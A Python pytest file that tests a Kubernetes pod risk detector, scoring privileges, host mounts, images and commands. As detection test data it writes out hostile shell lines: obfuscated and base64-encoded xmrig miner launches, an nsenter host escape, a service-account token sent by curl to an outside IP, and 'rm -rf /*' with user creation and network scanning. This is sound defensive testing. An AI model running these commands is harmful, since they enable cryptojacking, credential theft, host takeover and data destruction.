"""From a pod to its features: what is seen through whatever spelling, and what is not there."""

import base64
import copy
from collections.abc import Iterator
from typing import Any

import pytest

from policies import resource
from policies.deed import Deed
from policies.kinds import holds_pods
from policies.resource import UnreadableObjectError
from policies.risk.features import (
    BY_NAME,
    COMMANDS,
    IMAGES,
    NAMESPACES,
    PATHS,
    PRIVILEGES,
    REMEDIES,
    SCHEDULING,
    Features,
)
from policies.risk.observe import Observer
from tests.policies.risk import pods
from tests.policies.risk.pods import AGENT, WORKLOADS, Json, features, seen, workload
from tests.policies.test_command import SCRIPTS
from tests.policies.test_rules import HOSTILE

PRIVILEGED: Json = {"securityContext": {"privileged": True}}
ON_THE_NETWORK: Features = {"host_network": 1, "host_namespaces": 1, "power": 1}


# Nothing where nothing is.


@pytest.mark.parametrize(
    "spec",
    [
        {"containers": []},
        {"containers": None, "initContainers": None, "ephemeralContainers": None},
        {"containers": [None], "volumes": [None], "tolerations": [None], "securityContext": None},
        {"containers": [{}], "volumes": [{}], "tolerations": [{}], "securityContext": {"sysctls": [None, {}]}},
        {"hostNetwork": None, "hostPID": None, "hostIPC": False, "shareProcessNamespace": None, "nodeName": ""},
        {"containers": [{"image": None, "command": None, "args": [None], "volumeMounts": [None, {}], "env": [None]}]},
        {"containers": [{"image": "", "command": [], "args": [], "stdin": None, "tty": False}]},
        {"containers": [{"securityContext": None}, {"securityContext": {"capabilities": None, "privileged": None}}]},
        {"containers": [{"securityContext": {"capabilities": {"add": [None, ""], "drop": None}}}]},
        {"containers": [{"securityContext": {"seccompProfile": {"type": None}, "appArmorProfile": {}}}]},
        {"containers": [{"securityContext": {"windowsOptions": {"hostProcess": None}, "procMount": "Default"}}]},
        {"securityContext": {"windowsOptions": None, "runAsUser": None}, "containers": [{"lifecycle": None}]},
    ],
)
def test_null_and_empty_are_nothing(spec: Json) -> None:
    assert features(workload(spec)) == {}


def test_what_only_lowers_a_risk_is_not_seen() -> None:
    hardened: Json = {
        "securityContext": {
            "runAsNonRoot": True,
            "runAsUser": 1000,
            "allowPrivilegeEscalation": False,
            "readOnlyRootFilesystem": True,
            "capabilities": {"drop": ["ALL"]},
            "seccompProfile": {"type": "RuntimeDefault"},
        },
        "resources": {"limits": {"memory": "64Mi"}},
        "livenessProbe": {"httpGet": {"port": 80}},
    }
    assert seen(hardened) == seen({}) == {}
    assert seen({**hardened, **PRIVILEGED}) == seen(PRIVILEGED)


# Containers of every kind.

SIDECAR: Json = {"restartPolicy": "Always"}


@pytest.mark.parametrize(
    ("place", "extra"),
    [("containers", {}), ("initContainers", {}), ("initContainers", SIDECAR), ("ephemeralContainers", {})],
    ids=["container", "init", "sidecar", "ephemeral"],
)
@pytest.mark.parametrize(
    ("container", "shows"),
    [
        (PRIVILEGED, {"privileged": 1, "power": 2}),
        ({"command": ["xmrig"]}, {"command_mines": 1, "command_grave": 1, "power_grave": 1}),
        ({"image": "ngnix"}, {"image_typosquat": 1}),
        ({"securityContext": {"runAsUser": 0}}, {"root_user": 1}),
    ],
    ids=["privileged", "mining", "look-alike", "root"],
)
def test_a_container_of_any_kind_is_seen(place: str, extra: Json, container: Json, shows: Features) -> None:
    spec: Json = {"containers": [{}]}
    spec[place] = [*spec.get(place, []), {**container, **extra}]

    assert features(workload(spec)) == shows


@pytest.mark.parametrize(
    ("place", "extra", "power", "shell"),
    [
        ("containers", {}, "power_base_image", "power_shell"),
        ("initContainers", {}, "power_base_image_init", "power_shell_init"),
        ("initContainers", SIDECAR, "power_base_image", "power_shell"),
        ("ephemeralContainers", {}, "power_base_image", "power_shell"),
    ],
    ids=["container", "init", "sidecar", "ephemeral"],
)
def test_what_only_prepares_is_told_apart_from_what_keeps_running(
    place: str, extra: Json, power: str, shell: str
) -> None:
    container = {"image": "busybox", "command": ["sh", "-c", "work"], **PRIVILEGED, **extra}
    spec: Json = {"containers": [{}]}
    spec[place] = [*spec.get(place, []), container]

    assert features(workload(spec)) == {"privileged": 1, "power": 2, power: 2, shell: 2}


def test_an_init_container_of_a_base_image_does_not_wait_though_it_is_given_nothing_to_do() -> None:
    assert seen({}, initContainers=[{"image": "busybox"}]) == {}
    assert seen({}, initContainers=[{"image": "busybox", **SIDECAR}]) == {
        "waits_in_base_image": 1,
        "power_waiting_base": 1,
    }


def test_the_most_that_any_container_shows_counts() -> None:
    power: Json = {"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}

    both = {"capabilities_network": 1, "privileged": 1, "power": 2}
    assert seen(power, PRIVILEGED) == seen(PRIVILEGED, power) == both
    # Power lies in one container, and a suspicious command in another.
    assert seen(PRIVILEGED, {"command": ["xmrig"]})["power_grave"] == 1
    assert seen({**PRIVILEGED, "command": ["xmrig"]})["power_grave"] == 3


def test_each_container_is_seen_by_itself_with_what_is_true_of_the_pod() -> None:
    mines: Json = {"command": ["xmrig"]}
    pod = workload({"containers": [PRIVILEGED, mines, {}, mines], "nodeName": "n"})
    assert pods.each(pod) == [
        {"node_chosen": 1, "privileged": 1, "power": 2},
        {"node_chosen": 1, "command_mines": 1, "command_grave": 1, "power_grave": 1},
        {"node_chosen": 1},
    ]
    assert pods.each(workload({"hostIPC": True, "containers": []})) == [{"host_ipc": 1, "host_namespaces": 1}]


def test_what_one_container_may_is_not_said_of_another() -> None:
    waits: Json = {"image": "busybox", "command": ["sleep", "infinity"]}
    agent, helper = pods.each(workload({"hostPID": True, "containers": [PRIVILEGED, waits]}))
    assert (agent["power"], helper["power"], helper["power_idle"]) == (3, 1, 1)
    assert "host_processes_with_power" not in helper


@pytest.mark.parametrize(
    ("container", "idle"),
    [
        ({"command": ["sleep", "infinity"]}, True),
        ({"command": ["sh", "-c", "install; sleep infinity"]}, True),
        ({"stdin": True, "tty": True}, True),
        ({"stdin": True}, False),
        ({"tty": True}, False),
        ({"command": ["sh", "-c", "install"]}, False),
        ({"command": ["sh", "-c", "while true; do install; sleep 60; done"]}, False),
        ({}, False),
        ({"image": "alpine"}, True),
        ({"image": "alpine", "tty": True}, True),
        ({"image": "alpine", "command": ["sh", "-c", "nsenter -t 1 -m sh"]}, True),
        ({"image": "alpine", "command": ["sh", "-c", "install"]}, False),
        ({"image": "registry.k8s.io/pause:3.10"}, False),
    ],
    ids=str,
)
def test_power_that_waits_for_somebody(container: Json, idle: bool) -> None:
    found = seen({**PRIVILEGED, **container})
    assert (found["power"], found.get("power_idle", 0)) == (2, 2 if idle else 0)


@pytest.mark.parametrize(
    ("container", "idle"),
    [
        ({"command": ["sleep", "infinity"]}, True),
        ({"command": ["sh", "-c", "install; sleep infinity"]}, True),
        ({"command": ["sh", "-c", "until nc -z db 5432; do sleep 1; done"]}, False),
        ({"image": "alpine"}, False),
        ({"image": "alpine", "command": ["sh", "-c", "nsenter -t 1 -m sh"]}, False),
        ({"stdin": True, "tty": True}, False),
    ],
    ids=str,
)
def test_an_init_container_waits_for_somebody_only_if_its_pod_never_starts(container: Json, idle: bool) -> None:
    found = seen({}, initContainers=[{**PRIVILEGED, **container}])
    assert (found["power"], found.get("power_idle", 0)) == (2, 2 if idle else 0)


# Power over the host.


def test_power_adds_up_in_a_container_and_is_six_at_most() -> None:
    assert seen({}, hostIPC=True)["power"] == 1
    assert seen({}, hostIPC=True, hostPID=True, hostNetwork=True)["power"] == 1
    assert seen(PRIVILEGED, hostNetwork=True)["power"] == 3
    every: Json = {"privileged": True, "capabilities": {"add": ["ALL"]}}
    assert seen(mounting("/", securityContext=every), **host("/"), hostPID=True)["power"] == 6


@pytest.mark.parametrize(
    ("added", "shows"),
    [
        (["SYS_ADMIN"], {"capabilities_host": 1, "power": 1}),
        (["sys_admin"], {"capabilities_host": 1, "power": 1}),
        (["CAP_SYS_ADMIN"], {"capabilities_host": 1, "power": 1}),
        (["cap_sys_admin", "SYS_ADMIN", "Sys_Admin"], {"capabilities_host": 1, "power": 1}),
        (["SYS_ADMIN", "BPF", "SYSLOG", "MKNOD"], {"capabilities_host": 3, "power": 2}),
        (["ALL"], {"capabilities_host": 3, "capabilities_network": 2, "power": 3}),
        (["CAP_ALL"], {"capabilities_host": 3, "capabilities_network": 2, "power": 3}),
        (["all", None], {"capabilities_host": 3, "capabilities_network": 2, "power": 3}),
        (["NET_RAW", "net_admin"], {"capabilities_network": 2, "power": 1}),
        (["CHOWN", "NET_BIND_SERVICE", "KILL"], {}),
        ([" SYS_ADMIN", "SYS-ADMIN", "SYS_ADMIN\x00"], {}),
    ],
)
def test_capabilities_in_any_spelling(added: list[str | None], shows: Features) -> None:
    assert seen({"securityContext": {"capabilities": {"add": added}}}) == shows


@pytest.mark.parametrize(
    ("pod", "container", "off"),
    [
        ({}, {"seccompProfile": {"type": "Unconfined"}}, 1),
        ({"seccompProfile": {"type": "Unconfined"}}, {}, 1),
        ({"seccompProfile": {"type": "Unconfined"}}, {"seccompProfile": {"type": "RuntimeDefault"}}, 0),
        ({"appArmorProfile": {"type": "Unconfined"}}, {}, 1),
        ({"appArmorProfile": {"type": "Unconfined"}}, {"appArmorProfile": {"type": "RuntimeDefault"}}, 0),
        ({}, {"procMount": "Unmasked"}, 1),
        ({"seccompProfile": {"type": "Unconfined"}}, {"procMount": "Unmasked"}, 2),
        ({}, {"seccompProfile": {"type": "Localhost"}, "appArmorProfile": {"type": "Localhost"}}, 0),
    ],
)
def test_isolation_is_what_is_in_effect(pod: Json, container: Json, off: int) -> None:
    assert seen({"securityContext": container}, securityContext=pod) == ({"isolation_off": off} if off else {})


def test_identity_is_what_is_in_effect() -> None:
    assert seen({}, securityContext={"runAsUser": 0}) == {"root_user": 1}
    assert seen({"securityContext": {"runAsUser": 1}}, securityContext={"runAsUser": 0}) == {}


# Paths of the host.


def host(*paths: str) -> Json:
    """Volumes of the host, named by their paths."""
    return {"volumes": [{"name": path, "hostPath": {"path": path}} for path in paths]}


def mounting(*paths: str, read_only: bool = False, **container: Any) -> Json:
    mounts = [{"name": path, "mountPath": f"/v{number}", "readOnly": read_only} for number, path in enumerate(paths)]
    return {"volumeMounts": mounts, **container}


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/", "path_root"),
        ("", "path_root"),
        ("//", "path_root"),
        ("/etc/..", "path_root"),
        ("/var/run/docker.sock", "path_runtime"),
        ("/run//docker.sock/", "path_runtime"),
        ("/var/./run/containerd/containerd.sock", "path_runtime"),
        ("/var/lib/kubelet/plugins/", "path_kubelet"),
        ("/etc/kubernetes/pki", "path_credentials"),
        ("/var/log/", "path_logs"),
        ("/data/shop", "path_other"),
    ],
)
def test_a_path_is_seen_whatever_its_spelling(path: str, name: str) -> None:
    assert {found for found in seen(mounting(path), **host(path)) if found.startswith("path_")} == {name}


def test_a_path_counts_as_writable_where_a_container_can_write_to_it() -> None:
    assert seen({}, **host("/dev")) == {"path_devices": 1}
    assert seen(mounting("/dev", read_only=True), **host("/dev")) == {"path_devices": 1}
    assert seen(mounting("/dev"), **host("/dev")) == {"path_devices": 2, "power": 1}
    assert seen(mounting("/dev", read_only=True), mounting("/dev"), **host("/dev"))["path_devices"] == 2
    both: Json = {
        "volumeMounts": [*mounting("/dev", read_only=True)["volumeMounts"], *mounting("/dev")["volumeMounts"]]
    }
    assert seen(both, **host("/dev")) == {"path_devices": 2, "power": 1}


@pytest.mark.parametrize(
    ("paths", "read_only", "power"),
    [
        (["/"], True, 1),
        (["/"], False, 2),
        (["/run/docker.sock"], False, 2),
        # A socket answers whoever can open it.
        (["/run/docker.sock"], True, 2),
        (["/etc"], True, 0),
        (["/etc"], False, 1),
        (["/dev", "/etc", "/usr"], False, 1),
        (["/data/shop"], False, 0),
        (["/", "/run/docker.sock", "/etc"], False, 2),
        (["/run/docker.sock", "/etc/cron.d"], False, 2),
    ],
)
def test_what_of_the_host_is_mounted_gives_power(paths: list[str], read_only: bool, power: int) -> None:
    assert seen(mounting(*paths, read_only=read_only), **host(*paths)).get("power", 0) == power


def test_the_root_is_told_once_and_a_folder_by_all_that_lies_in_it() -> None:
    assert seen({}, **host("/")) == {"path_root": 1}
    assert {"path_credentials", "path_configuration"} <= seen({}, **host("/etc")).keys()


def test_other_volumes_are_nothing() -> None:
    volumes = [{"name": "a", "emptyDir": {}}, {"name": "b", "secret": {"secretName": "x"}}, {"name": "c"}]
    mounts = [{"name": name, "mountPath": f"/{name}"} for name in ("a", "b", "c", "missing", None)]
    assert seen({"volumeMounts": mounts}, volumes=volumes) == {}


# Commands.


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


MINES: Features = {"command_mines": 1, "command_grave": 1, "power_grave": 1}


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["xmrig"]},
        {"command": ["/usr/bin/xmrig", "-o", "x"]},
        {"command": ["sh", "-c", "x'm'rig"]},
        {"command": ["sh", "-c", 'xm""rig -o x']},
        {"command": ["sh", "-c", "xm\\rig"]},
        {"command": ["sh", "-c", "A=xm; ${A}rig"]},
        {"command": ["sh"], "args": ["-c", "xmrig"]},
        {"command": ["sh", None, "-c", "xmrig"]},
        {"command": ["/bin/bash", "-xec"], "args": ["set -e\nwhile true; do xmrig; done"]},
        {"command": ["sh", "-c", "$(MINER)"], "env": [{"name": "MINER", "value": "xmrig"}]},
        {"command": ["env", "A=b", "nohup", "xmrig"]},
        {"command": ["serve"], "livenessProbe": {"exec": {"command": ["xmrig"]}}},
        {"command": ["serve"], "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "xmrig &"]}}}},
        {"args": ["--donate-level", "1"]},
    ],
    ids=str,
)
def test_a_command_is_seen_through_quotes_variables_and_arguments_apart(container: Json) -> None:
    assert seen(container) == MINES


GRAVE: dict[str, list[Deed]] = {
    "command_reverse_shell": [Deed.REVERSE_SHELL, Deed.SERVE_SHELL],
    "command_runs_download": [Deed.DOWNLOAD_AND_RUN, Deed.DECODE_AND_RUN, Deed.RUN_DOWNLOADED],
    "command_enters_host": [Deed.ENTER_HOST],
    "command_mines": [Deed.MINE],
    "command_attacks": [Deed.ATTACK_TOOL, Deed.SCAN_NETWORK, Deed.SNIFF_NETWORK],
    "command_persists": [Deed.ADD_USER, Deed.PERSIST, Deed.SET_UID_BIT],
    "command_destroys": [Deed.DESTROY, Deed.EXHAUST, Deed.CLEAR_TRACES],
}


@pytest.mark.parametrize(("name", "deed"), [(name, deed) for name, deeds in GRAVE.items() for deed in deeds])
def test_a_grave_deed_is_seen_as_its_family(name: str, deed: Deed) -> None:
    for text in SCRIPTS[deed]:
        found = seen({"command": ["sh", "-c", text]})
        assert found[name] == 1, text
        assert found["command_grave"] == sum(each in found for each in GRAVE), text


@pytest.mark.parametrize(
    ("deed", "grey"),
    [
        (Deed.READ_TOKEN, 1),
        (Deed.DOWNLOAD, 1),
        (Deed.INSTALL_PACKAGES, 1),
        (Deed.LISTEN, 1),
        (Deed.LOAD_MODULE, 1),
        (Deed.MOUNT, 1),
        (Deed.EDIT_FIREWALL, 1),
        (Deed.KUBECTL, 1),
        (Deed.TALK_TO_RUNTIME, 1),
        (Deed.SUDO, 1),
        (Deed.SHELL, 0),
    ],
)
def test_what_may_be_ordinary_is_grey(deed: Deed, grey: int) -> None:
    found = seen({"command": ["sh", "-c", SCRIPTS[deed][0]]})
    assert (found.get("command_grey", 0), found.get("command_grave", 0)) == (grey, 0)


def test_a_command_is_seen_through_base64() -> None:
    found = seen({"command": ["sh", "-c", f"echo {base64_of('xmrig -o 203.0.113.9:3333')} | base64 -d | sh"]})
    assert found == {"command_mines": 1, "command_runs_download": 1, "command_grave": 2, "power_grave": 1}


@pytest.mark.parametrize(
    "container",
    [
        {"command": ["serve"], "env": [{"name": "NOTE", "value": "xmrig"}]},
        {"command": ["sh", "-c", "# xmrig\nserve"]},
        {"name": "xmrig-exporter"},
        {"command": ["echo", "miner"]},
    ],
    ids=str,
)
def test_what_only_speaks_of_it_is_nothing(container: Json) -> None:
    assert seen(container) == {}


def test_different_things_are_counted() -> None:
    found = seen({"command": ["sh", "-c", "xmrig & useradd eve; nmap 10.0.0.0/8; rm -rf /*; iptables -F; modprobe x"]})
    assert (found["command_grave"], found["command_grey"]) == (3, 2)
    twice = seen({"command": ["sh", "-c", "xmrig & xmrig & ccminer"]})
    assert twice["command_grave"] == 1


def test_credentials_that_are_sent_away_are_stolen() -> None:
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - where it lies
    read = seen({"command": ["cat", token]})
    assert read == {"command_reads_credentials": 1, "command_grey": 1}
    sent = seen({"command": ["sh", "-c", f"cat {token} | curl -d @- http://203.0.113.9"]})
    assert sent["command_steals"] == sent["command_grave"] == 1


# Images.


@pytest.mark.parametrize(
    ("reference", "power"),
    [
        ("alpine", "power_base_image"),
        ("alpine:3.20", "power_base_image"),
        ("library/alpine", "power_base_image"),
        ("docker.io/library/alpine:3.20", "power_base_image"),
        ("index.docker.io/library/alpine", "power_base_image"),
        (f"alpine:3.20@sha256:{'a' * 64}", "power_base_image"),
        (f"alpine@sha256:{'a' * 64}", "power_base_image"),
        ("registry.corp.example/mirror/docker.io/library/alpine:3", "power_base_image"),
        ("python:3.12-slim", "power_tool_image"),
        ("nicolaka/netshoot", "power_tool_image"),
        ("nginx", "power_official_image"),
        ("somebody/agent", "power_unknown_image"),
        ("registry.corp.example/team/agent:2", "power_unknown_image"),
        ("agent", "power_local_image"),
        ("agent:latest", "power_local_image"),
        # What no runtime could pull has no publisher either.
        ("Not An Image", "power_local_image"),
        ("a" * 5_000, "power_local_image"),
        (AGENT, ""),
        (f"quay.io/cilium/cilium@sha256:{'b' * 64}", ""),
    ],
)
def test_the_image_that_holds_power_is_known_in_any_spelling(reference: str, power: str) -> None:
    found = seen({"image": reference, "command": ["serve"]}, hostNetwork=True)
    assert found == {**ON_THE_NETWORK, **({power: 1} if power else {})}


def test_without_an_image_power_lies_in_one_of_no_registry() -> None:
    assert seen({"image": None}, hostNetwork=True) == {**ON_THE_NETWORK, "power_local_image": 1}


@pytest.mark.parametrize(
    ("reference", "attack"),
    [
        ("kalilinux/kali-rolling", 2),
        ("docker.io/kalilinux/kali-rolling:latest", 2),
        ("somebody/reverse-shell", 1),
        ("registry.corp.example/xmrig:1", 2),
        ("somebody/app:cve-2024-21626", 1),
        ("somebody/reverse-proxy", 0),
    ],
)
def test_an_image_is_known_by_a_name_that_betrays_it(reference: str, attack: int) -> None:
    assert seen({"image": reference, "command": ["serve"]}).get("image_attack", 0) == attack


@pytest.mark.parametrize(
    ("container", "waits"),
    [
        ({}, True),
        ({"command": ["sleep", "infinity"]}, True),
        ({"command": ["sh", "-c", "while true; do sleep 5; done"]}, True),
        ({"command": ["tail", "-f", "/dev/null"]}, True),
        ({"command": ["serve"], "tty": True}, True),
        ({"command": ["serve"], "stdin": True}, True),
        ({"command": ["apk", "add", "curl"]}, True),
        ({"command": ["useradd", "eve"]}, True),
        ({"command": ["serve"]}, False),
        ({"args": ["serve"]}, False),
        ({"command": ["sleep", "5"]}, False),
    ],
    ids=str,
)
def test_a_base_image_waits_without_a_task_or_does_unusual_things(container: Json, waits: bool) -> None:
    assert ("waits_in_base_image" in seen({"image": "alpine", **container})) is waits
    assert "waits_in_base_image" not in seen(container)


def test_a_command_more_does_not_end_the_waiting() -> None:
    asleep = {"image": "alpine", "command": ["sh", "-c", "sleep infinity"], **PRIVILEGED}
    busy = {"image": "alpine", "command": ["sh", "-c", "sleep infinity; apk add curl"], **PRIVILEGED}
    assert seen(asleep).items() <= seen(busy).items()


# Scheduling.


@pytest.mark.parametrize(
    ("toleration", "shows"),
    [
        ({"operator": "Exists"}, {"tolerates_everything": 1}),
        ({"key": "", "operator": "Exists", "effect": "NoExecute"}, {"tolerates_everything": 1}),
        ({"key": "node-role.kubernetes.io/control-plane"}, {"tolerates_control_plane": 1}),
        ({"key": "node-role.kubernetes.io/master", "operator": "Exists"}, {"tolerates_control_plane": 1}),
        ({"key": "example.com/gpu", "operator": "Exists"}, {}),
        ({"operator": "Equal"}, {}),
        ({}, {}),
    ],
    ids=str,
)
def test_tolerations(toleration: Json, shows: Features) -> None:
    assert seen({}, tolerations=[None, toleration]) == shows


def test_a_pod_is_naked_where_no_controller_looks_after_it() -> None:
    alone = workload({"containers": [{}]}, kind=("v1", "Pod"))
    assert features(alone) == {"naked_pod": 1}
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "a", "uid": "b", "controller": True}
    assert features({**alone, "metadata": {"ownerReferences": [owner]}}) == {}
    assert features({**alone, "metadata": {"ownerReferences": [{**owner, "controller": False}]}}) == {"naked_pod": 1}


# What would have to go.

EVERYTHING: Json = {
    "nodeName": "node-1",
    "tolerations": [{"operator": "Exists"}, {"key": "node-role.kubernetes.io/master"}],
    "hostNetwork": True,
    "hostPID": True,
    "shareProcessNamespace": True,
    "securityContext": {"sysctls": [{"name": "kernel.x"}], "windowsOptions": {"hostProcess": True}, "runAsUser": 0},
    **host("/", "/dev"),
    "containers": [
        mounting("/", "/dev", image="alpine", command=["sh", "-c", "xmrig; sleep 1d"], tty=True, **PRIVILEGED),
        {"image": "kalilinux/kali-rolling", "securityContext": {"capabilities": {"add": ["ALL"]}}},
        {"image": "ngnix", "securityContext": {"seccompProfile": {"type": "Unconfined"}}},
    ],
}


@pytest.mark.parametrize("remedy", REMEDIES)
def test_without_a_group_all_of_it_is_gone_and_nothing_else(remedy: str) -> None:
    obj = workload(EVERYTHING, kind=("v1", "Pod"))
    whole, left = features(obj), features(obj, frozenset({remedy}))
    meets = {"power", "naked", "host_processes", "command_in", "waits", "interactive"}

    own = {name for name in whole if BY_NAME[name].remedy == remedy and not name.startswith("power")}
    assert own
    assert own.isdisjoint(left)
    lowered = {name for name in whole if left.get(name, 0) < whole[name]} - own
    # Facts in which two things meet go with either.
    assert {name for name in lowered if not name.startswith(tuple(meets))} == set()
    assert left.items() <= {**whole, **{name: left.get(name, 0) for name in lowered}}.items()


def test_without_everything_nothing_is_left() -> None:
    assert features(workload(EVERYTHING, kind=("v1", "Pod")), frozenset(REMEDIES)) == {}
    assert set(REMEDIES) == {PRIVILEGES, NAMESPACES, PATHS, COMMANDS, IMAGES, SCHEDULING}


# Wherever it stands, and whatever it holds.


@pytest.mark.parametrize("name", pods.real())
def test_a_pod_is_seen_alike_in_every_workload(name: str) -> None:
    inside = pods.pod_of(pods.real()[name])
    annotations = inside.get("metadata", {}).get("annotations")
    found = [features(workload(inside["spec"], kind=kind, annotations=annotations)) for kind in WORKLOADS]

    assert all(each == found[0] for each in found)
    alone = features(workload(inside["spec"], kind=("v1", "Pod"), annotations=annotations))
    assert {name: value for name, value in alone.items() if not name.startswith("naked_pod")} == found[0]
    assert "naked_pod" in alone


def test_every_built_in_workload_is_tried() -> None:
    assert all(holds_pods(pods.kind_of(*kind)) for kind in WORKLOADS)


@pytest.mark.parametrize("name", pods.real())
def test_looking_changes_nothing_and_finds_the_same_again(name: str) -> None:
    obj = pods.real()[name]
    before = copy.deepcopy(obj)
    [found] = resource.read(obj).pods

    first = Observer.shipped().observe(found.pod)
    assert Observer.shipped().observe(found.pod) == first == features(copy.deepcopy(before))
    assert list(Observer.shipped().observe(found.pod)) == list(first)
    assert obj == before


def replaced(obj: Any, value: object) -> Iterator[Any]:
    """Copies of an object in each of which one thing is replaced by the value."""
    items = list(obj.items()) if isinstance(obj, dict) else list(enumerate(obj)) if isinstance(obj, list) else []
    for key, item in items:
        changed = copy.copy(obj)
        if key not in ("apiVersion", "kind"):
            changed[key] = value
            yield copy.copy(changed)
        for below in replaced(item, value):
            changed[key] = below
            yield copy.copy(changed)


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value)[:20])
def test_whatever_a_pod_holds_nothing_is_raised_and_values_stay_in_range(value: object) -> None:
    for obj in replaced(workload(EVERYTHING, kind=("v1", "Pod")), value):
        try:
            found = resource.read(obj).pods
        except UnreadableObjectError:
            continue
        for pod, _ in found:
            for name, seen_value in Observer.shipped().observe(pod).items():
                assert 0 < seen_value <= BY_NAME[name].most
